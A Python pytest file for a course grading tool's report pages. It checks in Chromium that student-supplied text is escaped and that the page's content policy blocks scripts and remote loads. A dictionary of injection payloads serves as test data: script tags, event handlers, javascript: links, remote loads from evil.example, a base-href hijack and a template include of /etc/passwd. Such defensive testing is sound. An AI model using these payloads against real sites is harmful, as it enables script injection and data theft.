"""Every page is written here, and its policy lets no script but ours run: asked of Chromium, with hostile students."""

from __future__ import annotations

import ast
import json
import sys
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import Any

import pytest
from jinja2 import Environment

import course_utils
from course_utils.checks.report import CaseOutcome, Difference, Report, Result
from course_utils.grading.gradebook.book import Gradebook
from course_utils.grading.gradebook.decisions import Decisions
from course_utils.grading.gradebook.records import Graded
from course_utils.grading.report import templating
from course_utils.grading.report.pages import write_reports
from course_utils.grading.similar.command import similar

GRADING = Path(course_utils.__file__).parent / "grading"
TEMPLATES = GRADING / "report" / "templates"
STEP = "week1/2_step_by_step"
# Each says in the page's title what it could do, or asks a server that is not there.
HOSTILE = {
    "script": "<script>document.title='pwned'</script>",
    "event": "<img src=x onerror=\"document.title='pwned'\">",
    "svg": "<svg onload=\"document.title='pwned'\"></svg>",
    "link": "<a id=trap href=\"javascript:document.title='pwned'\">trap</a>",
    "button": "<button id=trap onclick=\"document.title='pwned'\">trap</button>",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "dialog": "<script>alert('pwned')</script>",
    "remote script": "<script src=http://evil.example/x.js></script>",
    "remote picture": "<img src=http://evil.example/x.png>",
    "remote style": "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css'</style>",
    "remote frame": "<iframe src=http://evil.example/></iframe><object data=http://evil.example/></object>",
    "remote background": "<p style=\"background:url(http://evil.example/z.png)\">x</p>",
    "base": "<base href=http://evil.example/>",
    "form": "<form action=http://evil.example/><button id=trap>trap</button></form>",
    "break out of an attribute": "\"' autofocus onfocus=document.title='pwned' x='",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
}
# What the page's own document refuses without a word: the frame's document says it.
SILENT = ("frame", "break out of an attribute", "template")
ATTACK = "".join(HOSTILE.values())
SLOT = "Slot-for-what-a-template-did-not-escape"


def calls(function: str) -> Iterator[tuple[str, ast.Call]]:
    for path in sorted(GRADING.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func).rpartition(".")[2] == function:
                yield path.relative_to(GRADING).as_posix(), node


def test_every_page_is_written_in_one_place_with_the_policy_before_anything_else() -> None:
    assert {module for module, _ in calls("Environment")} == {"report/templating.py"}
    assert {module for module, _ in calls("Template")} == set()
    pages = [path for path in sorted(TEMPLATES.glob("*.html")) if not path.name.startswith("_")]
    assert {path.name for path in pages} >= {"index.html", "student.html", "feedback.html", "similar.html"}
    for path in pages:
        assert '<head>\n{{ HEAD }}\n' in path.read_text("utf-8"), path.name
    for path in GRADING.rglob("*.py"):
        assert "<html" not in path.read_text("utf-8").lower(), f"{path.name} writes a page of its own"
        assert "|safe" not in path.read_text("utf-8")


def test_no_template_lets_text_through_unescaped_or_brings_a_script_of_its_own() -> None:
    for path in TEMPLATES.glob("*.html"):
        text = path.read_text("utf-8")
        assert "|safe" not in text.replace(" ", ""), path.name
        assert "autoescape" not in text, path.name
        assert ("<script" in text) == (path.name == "_sort.html"), path.name
        assert not [word for word in (" onclick", " onload", " onerror", "javascript:") if word in text], path.name


def graded(student: str, results: tuple[Result, ...], **more: Any) -> Graded:
    usual: dict[str, Any] = {"notebook": STEP, "file": "notebook.ipynb", "version": "v1", "seed": 7, "seconds": 0.1}
    return Graded(student=student, results=results, sha256=student, submitted_at=None, **(usual | more))


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The pages of a class whose names, files, messages, reasons and code are all an attack."""
    out = tmp_path_factory.mktemp("hostile")
    case = CaseOutcome(ATTACK, "error", ATTACK, Difference("value", ATTACK, ATTACK, ATTACK))
    hidden = CaseOutcome(ATTACK, "failed", ATTACK, hidden=True)
    report = Report("zero_pad", "error", (case, hidden), ATTACK, ATTACK, (ATTACK,))
    results = (Result("zero_pad", "blocked", 0, 5, ATTACK, ATTACK, report=report), Result("conv_forward", "unchecked", 0, 5, ATTACK))
    with Gradebook.open(out / "gradebook.sqlite") as book:
        book.record(graded(ATTACK, results, message=ATTACK, file=f"{ATTACK}.ipynb", cohort=ATTACK))
        book.record(graded("Ada Lovelace", (Result("zero_pad", "passed", 5, 5),)))
        book.record(graded("Slot", results[:1], message=SLOT))
        book.record(graded(ATTACK, (), notebook="", file=f"{ATTACK}.txt", message=ATTACK))
        Decisions(book).override(ATTACK, STEP, "zero_pad", 1, ATTACK, ATTACK)
        write_reports(book, out, title=ATTACK)
    for number, text in enumerate(HOSTILE.values()):
        _hand_in(out / "handed in" / f"{number} {text}".replace("/", "∕")[:80], text)
    similar(out / "handed in", out)
    return out


def _hand_in(folder: Path, text: str) -> None:
    """A notebook whose function carries `text` in its comment, its strings and its file's name."""
    folder.mkdir(parents=True)
    lines = ["def zero_pad(X, pad):", f"    # {text}", f"    note = {text!r}", "    Y = X * 2 + pad - 1 + 3 * X - pad"]
    lines += ["    for i in range(3):", "        Y = Y + i * pad - X * 4", "    return Y"]
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": "\n".join(lines)}]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "2_step_by_step.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


class Visit:
    """A page in Chromium, and all that it tried: dialogs, requests, broken rules of its policy, errors."""

    def __init__(self, browser: Any) -> None:
        self.tried: list[str] = []
        self.context = browser.new_context()
        self.context.route(lambda url: not url.startswith(("file:", "data:", "about:")), self._refuse)
        self.page = self.context.new_page()
        self.page.add_init_script(
            "window.broken = []; document.addEventListener('securitypolicyviolation',"
            " (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`))"
        )
        self.page.on("dialog", self._close)
        self.page.on("pageerror", lambda error: self.tried.append(str(error)))

    def _refuse(self, route: Any) -> None:
        self.tried.append(route.request.url)
        route.abort()

    def _close(self, dialog: Any) -> None:
        self.tried.append(dialog.message)
        dialog.dismiss()

    def open(self, path: Path) -> tuple[list[str], list[str]]:
        """What the page did that it should not, and what its policy refused; whatever waits for a click gets one."""
        self.tried.clear()
        self.page.goto(path.as_uri())
        self.page.locator("#trap").evaluate_all("traps => traps.forEach((trap) => trap.click())")
        self.page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
        if self.page.title() == "pwned":
            self.tried.append("a script ran")
        if not self.page.evaluate("() => document.baseURI").startswith(path.as_uri()):
            self.tried.append("the page is another, or its links lead elsewhere")
        return list(self.tried), self.page.evaluate("() => window.broken")


@pytest.fixture(scope="module")
def visit(browser: Any) -> Iterator[Visit]:
    visiting = Visit(browser)
    yield visiting
    visiting.context.close()


@pytest.mark.browser
def test_pages_of_a_hostile_class_do_nothing_of_what_it_wrote(hostile_class: Path, visit: Visit) -> None:
    pages = sorted(hostile_class.rglob("*.html"))
    assert {path.name for path in pages} >= {"index.html", "similar.html", "2_step_by_step.html"}
    for path in pages:
        assert visit.open(path) == ([], []), path
        assert visit.page.locator("#trap, iframe, object, img, base, form, link").count() == 0, path
    similar_page = "".join(path.read_text("utf-8") for path in (hostile_class / "similar").glob("pair-*.html"))
    assert escape(HOSTILE["svg"]).replace("&quot;", "&#34;").replace("&#x27;", "&#39;") in similar_page, "code is shown"


@pytest.mark.browser
def test_our_own_script_runs_and_the_charts_are_there(hostile_class: Path, visit: Visit) -> None:
    assert visit.open(hostile_class / "index.html") == ([], [])
    page = visit.page
    page.get_by_role("button", name="Points").click()
    assert page.locator("#sorted").text_content() == "Sorted by Points, descending."
    assert max(page.locator("rect.column").evaluate_all("all => all.map((one) => one.getBBox().height)")) > 0
    assert page.locator("svg.histogram").bounding_box()["width"] > 200
    assert page.locator(".meter > span").evaluate_all("all => all.every((one) => one.style.width.endsWith('%'))")
    assert page.locator("main").evaluate("one => getComputedStyle(one).maxWidth") != "none", "no style was applied"


@pytest.mark.browser
def test_what_a_template_would_forget_to_escape_stays_without_effect(hostile_class: Path, visit: Visit, tmp_path: Path) -> None:
    """A page with each attack put into it raw; the browser must say that it refused it."""
    (page,) = (hostile_class / "feedback" / "Slot").rglob("2_step_by_step.html")
    text = page.read_text("utf-8")
    assert SLOT in text
    for name, attack in HOSTILE.items():
        path = tmp_path / f"{name}.html"
        path.write_text(text.replace(SLOT, attack), "utf-8")
        tried, refused = visit.open(path)
        assert tried == [], name
        assert refused or name in SILENT, f"{name}: the browser saw nothing to refuse, this proves nothing"
    path.write_text(text.replace(SLOT, HOSTILE["script"]).replace("Content-Security-Policy", "no policy"), "utf-8")
    assert visit.open(path)[0] == ["a script ran"], "without the policy it would have had its effect"


def test_templates_are_compiled_once_for_all_runs(tmp_path, monkeypatch):
    """The second environment finds what the first compiled; where nobody may write there, each compiles its own."""
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    compiled = []
    compile_ = Environment.compile
    monkeypatch.setattr(Environment, "compile", lambda *args, **named: compiled.append(1) or compile_(*args, **named))
    for folder, expected in ((tmp_path / "new", [True, False]), (tmp_path / "none" / "there", [True, True])):
        monkeypatch.setattr(templating, "_COMPILED", folder)
        seen = []
        for _ in range(2):
            compiled.clear()
            templating._environment.__wrapped__().get_template("fault.html")
            seen.append(bool(compiled))
        assert seen == expected


def test_two_results_that_differ_in_a_hidden_case_alone_have_each_its_own_page(tmp_path: Path) -> None:
    """Parts of pages are kept for those who have the same: points and message can be the same, and the cases not."""
    for student, passed in (("Ada", "a wider image"), ("Bo", "a taller image")):
        cases = tuple(CaseOutcome(title, "passed" if title == passed else "failed", "It differs.", hidden=True) for title in ("a wider image", "a taller image"))
        report = Report("zero_pad", "failed", cases, "It differs.", share=0.5)
        result = Result("zero_pad", "failed", 2.5, 5.0, "It differs.", "", 0.0, report)
        with Gradebook.open(tmp_path / "gradebook.sqlite") as book:
            book.record(Graded(student, "week1/2_step_by_step", f"{student}/x.ipynb", student * 8, "v1", 1, (result,)))
    with Gradebook.open(tmp_path / "gradebook.sqlite") as book:
        write_reports(book, tmp_path)
    pages = [(tmp_path / "feedback" / student / "week1" / "2_step_by_step.html").read_text("utf-8") for student in ("Ada", "Bo")]
    signs = [[page.split(title)[0].rsplit("sign-", 1)[1].split('"')[0] for title in ("a wider image", "a taller image")] for page in pages]
    assert signs == [["passed", "failed"], ["failed", "passed"]]
